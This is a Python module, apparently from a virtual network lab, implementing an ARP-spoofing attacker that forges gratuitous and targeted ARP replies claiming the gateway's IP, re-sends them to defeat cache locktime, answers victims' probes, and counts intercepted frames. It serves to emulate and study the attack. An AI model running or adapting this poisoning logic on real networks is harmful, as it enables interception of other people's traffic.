"""An ARP-spoofing attacker behind a TAP port of the bridge (``arpspoof`` as a program).

Design note
-----------
The attacker's NIC is the TAP device's far end, as a VM's would be: the program writes
whole Ethernet frames and reads everything the bridge sends to the port. Every
``interval`` seconds (virtual time in the emulator, wall time on the kernel) it claims
``claim`` (the gateway's IP) for its own ``mac`` with forged ARP *replies*: a gratuitous one
to the broadcast address (``tpa`` = the claimed IP) and, when ``victim_ip``/``victim_mac``
are given, a targeted one to the victim. Linux only lets a reply *update* an existing
neighbour entry (``arp_accept`` 0) and not within ``locktime`` (1 s) of the last update,
which is why the replies repeat. It also answers the unicast ARP requests for the
claimed IP (the victim's probes of a stale entry reach only the attacker: answered, the
entry stays poisoned; counted as ``answered_requests``); broadcast requests it leaves
alone, so the attack begins only with its first round. Every IPv4 frame that then arrives
addressed to ``mac`` (the attacker has no IP of its own) is intercepted traffic: counted
(``intercepted``; ICMP also as ``intercepted_icmp``). Args: ``mac``, ``claim``, optional
``victim_ip``, ``victim_mac``, ``interval`` (s, default 1), ``count`` (rounds, default 30),
``start`` (s before the first round, default 0).
"""

from __future__ import annotations

from ipaddress import IPv4Address

from vnetlab.tuntap.api import Context, ProgramError
from vnetlab.wire.arp import ARPOP_REPLY, ARPOP_REQUEST, ArpPacket
from vnetlab.wire.errors import ParseError

ETH_P_ARP = b"\x08\x06"
ETH_P_IP = b"\x08\x00"
BROADCAST = b"\xff" * 6


def _mac(value: object, what: str) -> bytes:
    try:
        b = bytes.fromhex(str(value).replace(":", ""))
    except ValueError:
        b = b""
    if len(b) != 6:
        raise ProgramError(f"arpspoof: args.{what} must be a MAC like 02:00:00:00:00:66")
    return b


def forged_replies(mac: bytes, claim: IPv4Address, victim_ip: IPv4Address | None,
                   victim_mac: bytes | None) -> list[bytes]:
    """The frames of one round: gratuitous (broadcast) and, if aimed, targeted."""
    out = [BROADCAST + mac + ETH_P_ARP
           + ArpPacket(ARPOP_REPLY, mac, claim, BROADCAST, claim).emit()]
    if victim_ip is not None and victim_mac is not None:
        out.append(victim_mac + mac + ETH_P_ARP
                   + ArpPacket(ARPOP_REPLY, mac, claim, victim_mac, victim_ip).emit())
    return out


def main(ctx: Context) -> None:
    a = ctx.args
    try:
        mac = _mac(a["mac"], "mac")
        claim = IPv4Address(str(a["claim"]))
        victim_ip = IPv4Address(str(a["victim_ip"])) if "victim_ip" in a else None
        interval = float(a.get("interval", 1.0))
        rounds = int(a.get("count", 30))
        start = float(a.get("start", 0.0))
    except (KeyError, ValueError):
        raise ProgramError("arpspoof: args need 'mac' and 'claim' (the IP to steal); optional "
                           "'victim_ip', 'victim_mac', 'interval', 'count', 'start'") from None
    victim_mac = _mac(a["victim_mac"], "victim_mac") if "victim_mac" in a else None
    if interval <= 0 or rounds < 0 or start < 0:
        raise ProgramError("arpspoof: interval must be > 0, count and start >= 0")
    frames = forged_replies(mac, claim, victim_ip, victim_mac)
    left = [rounds]

    def round_() -> None:
        for f in frames:
            ctx.device.write(f)
            ctx.counters["forged_replies"] += 1
        left[0] -= 1
        if left[0] > 0:
            ctx.call_later(interval, round_)

    def on_frame(frame: bytes) -> None:
        if frame[12:14] == ETH_P_ARP:
            try:
                req = ArpPacket.parse(frame[14:])
            except (ParseError, ValueError):
                return
            if req.op == ARPOP_REQUEST and req.tpa == claim and frame[0:6] == mac:
                ctx.device.write(req.sha + mac + ETH_P_ARP
                                 + ArpPacket(ARPOP_REPLY, mac, claim, req.sha, req.spa).emit())
                ctx.counters["answered_requests"] += 1
            return
        if len(frame) < 34 or frame[0:6] != mac or frame[12:14] != ETH_P_IP:
            return
        ctx.counters["intercepted"] += 1
        if frame[23] == 1:
            ctx.counters["intercepted_icmp"] += 1

    ctx.device.on_packet(on_frame)
    if rounds:
        ctx.call_later(start, round_)
